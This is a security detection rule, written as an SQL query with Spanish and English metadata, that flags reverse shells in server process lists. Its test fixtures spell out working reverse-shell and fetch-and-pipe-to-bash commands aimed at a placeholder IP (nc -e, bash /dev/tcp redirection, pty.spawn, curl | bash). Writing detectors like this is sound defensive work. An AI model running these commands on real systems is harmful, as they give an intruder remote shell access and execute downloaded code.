-- id = "consola-inversa"
-- version = 1
-- severidad = "critica"
-- responsable = "seguridad"
-- es = { titulo = "Consola inversa", descripcion = "Busca en las líneas de comando nc -e, /dev/tcp/ de un intérprete con su entrada o salida, pty.spawn, y curl o wget con salida a un intérprete. Una comprobación de puerto (</dev/tcp/…) y una de este mismo servidor no cuentan.", justificacion = "Es la forma en que un intruso obtiene una consola del servidor.", remedio = "Aísle el servidor, investigue cómo entró y reinstale el sistema.", motivo = "{name} se ejecuta como {username}." }
-- en = { titulo = "Reverse shell", descripcion = "Looks in command lines for nc -e, /dev/tcp/ of a shell with its input or output, pty.spawn, and curl or wget piped into a shell. A check of a port (</dev/tcp/…) and one of this same server do not count.", justificacion = "This is how an intruder gets a shell of the server.", remedio = "Isolate the server, find out how they came in, and reinstall the system.", motivo = "{name} runs as {username}." }
-- referencias = ["https://attack.mitre.org/techniques/T1059/004/"]
-- controles = { ens = ["op.exp.6", "op.mon.1"], iso27001 = ["A.8.7", "A.8.16"], nist = ["SI-3", "SI-4"], cis = ["2.3"] }
-- semantica = "fila_es_violacion"
-- ambito = "servidor"
-- requiere_para_cumplir = ["linea_comando"]
-- clave = ["name", "username"]
-- evidencia = ["name", "username", "linea_comando", "n"]
-- pruebas = [
--   { veredicto = "falla", procesos = [{ name = "sh", username = "www-data", linea_comando = "sh -c nc -e /bin/sh 203.0.113.9 8081" }] },
--   { veredicto = "falla", procesos = [{ name = "nc", username = "ana", linea_comando = "nc 203.0.113.9 4444 -e /bin/bash" }] },
--   { veredicto = "falla", procesos = [{ name = "bash", username = "ana", linea_comando = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1" }] },
--   { veredicto = "falla", procesos = [{ name = "python3", username = "www-data", linea_comando = "python3 -c import pty; pty.spawn(\"/bin/bash\")" }] },
--   { veredicto = "falla", procesos = [{ name = "sh", username = "www-data", linea_comando = "sh -c curl -s http://203.0.113.9/x.sh | bash" }] },
--   { veredicto = "falla", procesos = [{ name = "sh", username = "www-data", linea_comando = "sh -c (curl -s http://203.0.113.9/x.sh||wget -q -O- http://203.0.113.9/x.sh)|bash" }] },
--   { veredicto = "cumple", procesos = [{ name = "bash", username = "app", linea_comando = "bash -c exec 3<>/dev/tcp/localhost/8080; cat <&3" }, { name = "bash", username = "app", linea_comando = "bash -c </dev/tcp/db/5432" }] },
--   { veredicto = "cumple", procesos = [{ name = "sh", username = "ana", linea_comando = "sh -c curl -s http://198.51.100.7/x | sha256sum" }, { name = "nc", username = "ana", linea_comando = "nc -l 8080" }, { name = "rsync", linea_comando = "rsync -e ssh" }] },
--   { veredicto = "desconocido", razon = "sin_dato", sin = ["linea_comando"], procesos = [{ name = "bash" }] },
-- ]

SELECT p.name AS name, p.username AS username, max(p.linea_comando) AS linea_comando, count(*) AS n
FROM procesos_listados AS p
WHERE p.lista = 'consolas'
  AND p.linea_comando IS NOT NULL
  AND (
    p.linea_comando GLOB '*nc* -*e /*sh *'
    OR p.linea_comando GLOB '*nc* -*e /*sh'
    OR p.linea_comando GLOB '*nc* -*[ec] *sh'
    OR instr(p.linea_comando, 'pty.spawn')
    OR (
      instr(p.linea_comando, '/dev/tcp/')
      AND NOT instr(p.linea_comando, '/dev/tcp/localhost/')
      AND NOT instr(p.linea_comando, '/dev/tcp/127.')
      AND (
        p.linea_comando GLOB '*>&*/dev/tcp/*'
        OR instr(p.linea_comando, '0>&1')
        OR instr(p.linea_comando, 'sh -i')
        OR instr(p.linea_comando, 'while read')
      )
    )
    OR (
      (instr(p.linea_comando, 'curl ') OR instr(p.linea_comando, 'wget '))
      AND (
        p.linea_comando || ' ' GLOB '*|*[ |/]sh[^A-Za-z0-9._-]*'
        OR p.linea_comando || ' ' GLOB '*|*[ |/]bash[^A-Za-z0-9._-]*'
      )
    )
  )
GROUP BY p.name, p.username
